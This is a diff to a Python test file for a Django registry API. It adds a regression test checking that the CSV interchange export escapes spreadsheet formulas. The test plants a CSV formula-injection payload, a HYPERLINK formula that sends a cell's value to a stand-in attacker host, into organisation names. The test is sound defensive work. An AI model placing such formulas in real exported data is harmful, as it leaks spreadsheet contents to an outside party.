@@ -11,8 +11,8 @@ import pytest
 from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
 
-from trainer_registry import campaigns
 from trainer_registry.demo import generator, loader
+from trainer_registry.followup import campaigns
 from trainer_registry.models import (
     AuditEvent,
     FollowUpCampaign,
@@ -222,3 +222,18 @@ def test_bad_analytics_queries_name_the_field(api_as, registry, query, field):
 def test_an_unknown_campaign_is_not_found(api_as, registry):
     response = api_as(Role.ME_ANALYST).get(f"{API}/analytics/attrition/", {"campaign": "nope"})
     assert response.status_code == 404
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_escaped_in_the_interchange(api_as, registry):
+    """Finding: an organisation renamed to ``=HYPERLINK(...)`` landed unescaped."""
+    from trainer_registry.models import Organisation
+
+    formula = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
+    for organisation in Organisation.objects.all():  # names are unique within a country
+        organisation.name = f"{formula}-{organisation.pk}"
+        organisation.save(update_fields=["name"])
+    text = api_as(Role.ME_ANALYST, "KH").get(f"{API}/campaigns/kh-api/interchange.csv")
+    rows = list(csv.DictReader(io.StringIO(text.content.decode("utf-8"))))
+    organisations = {r["organisation"] for r in rows} - {""}
+    assert organisations
+    assert all(name.startswith("'" + formula) for name in organisations)
